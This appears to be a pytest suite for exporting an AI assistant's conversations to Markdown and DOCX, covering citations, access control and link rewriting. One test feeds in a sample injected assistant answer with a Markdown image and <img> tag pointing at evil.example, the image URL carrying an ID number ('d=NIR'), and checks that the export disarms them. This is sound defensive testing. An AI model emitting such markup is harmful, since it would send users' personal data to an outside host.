import io

import pytest
from docx import Document

from agents.citations import Citation, SourceKind
from server.conversations.links import CitationLinks

pytestmark = pytest.mark.anyio

CLAIRE = "claire.dubois@chru-exemple.fr"
KARIM = "karim.haddad@chru-exemple.fr"


async def test_a_conversation_exports_to_markdown_with_its_sources(chat_api, as_user, converse):
    headers = as_user(CLAIRE)
    thread, _ = await converse(headers, ("Résume la réunion", "Premier point [1].\n\n- **Deux** [1]"))

    response = await chat_api.get(
        f"/api/threads/{thread}/export", params={"format": "markdown"}, headers=headers
    )

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/markdown; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="resume-la-reunion.md"'
    text = response.text
    assert text.startswith("# Résume la réunion\n\nConversation avec Assistant Ariane · Exportée le ")
    assert "## Vous — " in text
    assert "\nRésume la réunion\n" in text
    assert "## Assistant Ariane\n\nPremier point [1].\n\n- **Deux** [1]\n" in text
    assert text.endswith("**Sources**\n\n- [1] Réunion, cue-1 — « Bonjour »\n")


async def test_a_conversation_exports_to_docx_with_its_sources_in_english_on_request(
    chat_api, as_user, converse
):
    headers = as_user(CLAIRE)
    thread, _ = await converse(headers, ("Résume la réunion", "Premier point [1].\n\n- **Deux** [1]"))

    response = await chat_api.get(
        f"/api/threads/{thread}/export", params={"format": "docx", "lang": "en"}, headers=headers
    )

    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="resume-la-reunion.docx"'
    document = Document(io.BytesIO(response.content))
    paragraphs = [(p.style.name, p.text) for p in document.paragraphs]
    assert paragraphs[0] == ("Title", "Résume la réunion")
    assert paragraphs[1][1].startswith("Conversation with Assistant Ariane · Exported on ")
    assert paragraphs[2][0] == "Heading 2"
    assert paragraphs[2][1].startswith("You — ")
    assert paragraphs[3:] == [
        ("Normal", "Résume la réunion"),
        ("Heading 2", "Assistant Ariane"),
        ("Normal", "Premier point [1]."),
        ("List Bullet", "Deux [1]"),
        ("Normal", "Sources"),
        ("List Bullet", "[1] Réunion, cue-1 — « Bonjour »"),
    ]
    bold = [run.text for p in document.paragraphs for run in p.runs if run.bold]
    assert bold == ["Deux", "Sources"]


async def test_a_request_typed_with_control_characters_still_exports_to_docx(chat_api, as_user, converse):
    headers = as_user(CLAIRE)
    thread, _ = await converse(headers, ("Note\x0b du\x01 jour", "Réponse\x1f nette [1]"))

    response = await chat_api.get(f"/api/threads/{thread}/export", params={"format": "docx"}, headers=headers)

    assert response.status_code == 200
    texts = [p.text for p in Document(io.BytesIO(response.content)).paragraphs]
    assert "Note du jour" in texts
    assert "Réponse nette [1]" in texts


async def test_an_injected_answer_exports_to_markdown_with_nothing_live(chat_api, as_user, converse):
    headers = as_user(CLAIRE)
    injected = (
        "Voir ![logo](https://evil.example/p.png?d=NIR) <img src=https://evil.example/x> "
        "[ici](https://evil.example/a) **gras** [1]\n[ref]: https://evil.example/r"
    )
    thread, _ = await converse(headers, ("Question <b>", injected))

    response = await chat_api.get(
        f"/api/threads/{thread}/export", params={"format": "markdown"}, headers=headers
    )

    text = response.text
    assert "![" not in text  # an image would be loaded when the file is opened
    assert "<img" not in text
    assert "<b>" not in text
    assert "](https://evil.example" not in text
    assert "\n[ref]:" not in text
    # What was said stays readable: the image's description, the link's label and address, the Markdown.
    assert "Voir logo &lt;img src=https://evil.example/x> ici (https://evil.example/a) **gras** [1]" in text


async def test_another_users_conversation_cannot_be_exported_and_unknown_formats_are_refused(
    chat_api, as_user, converse
):
    thread, _ = await converse(as_user(CLAIRE), ("Bonjour", "Voici [1]."))

    other = await chat_api.get(f"/api/threads/{thread}/export", headers=as_user(KARIM))
    bad = await chat_api.get(
        f"/api/threads/{thread}/export", params={"format": "pdf"}, headers=as_user(CLAIRE)
    )

    assert (other.status_code, other.json()["error"]) == (404, "thread_not_found")
    assert (bad.status_code, bad.json()["error"]) == (400, "invalid_request")


SOURCES = [
    Citation(
        source=SourceKind.DOCUMENT,
        id="item-42",
        title="Note de service",
        locator="page 9",
        quote="Le délai est de 48 heures",
        url="https://chruexemple.sharepoint.com/sites/drh/Documents/note.pdf",
    ),
    Citation(
        source=SourceKind.TRANSCRIPT,
        id="tr-1",
        title="Réunion",
        locator="cue-3",
        quote="Bonjour",
        url="/reunions/ev-1?cues=cue-3",
    ),
]


async def test_an_export_links_each_citation_where_the_app_opens_it(chat_api, as_user, converse, runner):
    runner.citations = SOURCES
    headers = as_user(CLAIRE)
    thread, _ = await converse(headers, ("Quel délai ?", "Quarante-huit heures [1], dit en réunion [2]."))

    text = (await chat_api.get(f"/api/threads/{thread}/export", headers=headers)).text

    # The embedded tenant's SharePoint opens nothing: the document opens in the app's viewer, at its page.
    assert "<http://127.0.0.1:8000/documents/sharepoint/item-42?at=page%209>" in text
    assert "sharepoint.com" not in text
    assert "<http://127.0.0.1:8000/reunions/ev-1?cues=cue-3>" in text


def test_in_production_a_sharepoint_pdf_opens_at_its_address_at_the_cited_page():
    links = CitationLinks("https://ariane.chru-exemple.fr/", viewer=False)
    document, transcript = (citation.model_dump(mode="json") for citation in SOURCES)

    assert links.of(document) == "https://chruexemple.sharepoint.com/sites/drh/Documents/note.pdf#page=9"
    assert links.of(document | {"locator": "section 2"}) == document["url"]
    assert links.of(transcript) == "https://ariane.chru-exemple.fr/reunions/ev-1?cues=cue-3"
    assert links.of(document | {"source": "knowledge", "url": None, "id": "k 1"}) == (
        "https://ariane.chru-exemple.fr/documents/knowledge/k%201?at=page%209"
    )


def test_a_file_attached_to_the_conversation_has_no_link_outside_it():
    document, _ = (citation.model_dump(mode="json") for citation in SOURCES)
    attached = document | {"source": "attachment", "id": "a-1", "title": "pret.txt", "url": None}

    assert CitationLinks("https://ariane.chru-exemple.fr/", viewer=True).of(attached) is None
    assert CitationLinks("https://ariane.chru-exemple.fr/", viewer=False).of(attached) is None
